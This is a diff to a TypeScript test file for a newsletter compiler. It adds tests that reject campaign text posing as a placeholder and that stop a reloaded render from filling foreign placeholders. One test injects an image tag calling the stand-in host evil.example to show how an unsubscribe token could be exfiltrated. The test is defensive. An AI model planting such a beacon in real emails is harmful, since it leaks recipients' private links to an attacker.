@@ -183,15 +183,30 @@ describe('compileNewsletter + fillNewsletter', () => {
     expect(fillNewsletter(reloaded, { firstName: 'Kari', unsubscribeUrl })).toEqual(fill('Kari'));
   });
 
-  it('does not let campaign text pose as a placeholder', async () => {
+  it('refuses campaign text that poses as a placeholder', async () => {
     const fake = '%%KK_0123456789abcdef01234567_UNSUB%%';
-    const sneaky = await compileNewsletter(
-      buildContent({ subject: fake, blocks: [{ type: 'news', title: fake }] }),
-      brand,
-    );
-    const { html, text } = fillNewsletter(sneaky, { firstName: 'Kari', unsubscribeUrl });
-    expect(text.split(fake)).toHaveLength(2);
-    expect(html).toContain(`<h2>${fake}</h2>`);
+    await expect(
+      compileNewsletter(buildContent({ subject: fake, blocks: [{ type: 'news', title: fake }] }), brand),
+    ).rejects.toMatchObject({
+      errors: [
+        expect.objectContaining({ path: 'subject' }),
+        expect.objectContaining({ path: 'blocks.0.title' }),
+      ],
+    });
+  });
+
+  it('fills only its own placeholders in a render loaded again, whatever else it contains', () => {
+    const fake = `%%KK_${'0'.repeat(24)}_UNSUB%%`;
+    const stored = JSON.parse(JSON.stringify(compiled)) as CompiledNewsletter;
+    const tampered = {
+      ...stored,
+      html: stored.html.replace('</body>', `<img src="https://evil.example/?u=${fake}"></body>`),
+      text: `${fake}\n${stored.text}`,
+    };
+    const { html, text } = fillNewsletter(tampered, { firstName: 'Kari', unsubscribeUrl });
+    expect(html).toContain(`https://evil.example/?u=${fake}`);
+    expect(text.startsWith(fake)).toBe(true);
+    expect(() => fillNewsletter({ ...stored, nonce: 'not-a-nonce' }, { unsubscribeUrl })).toThrow(/nonce/);
   });
 });
 
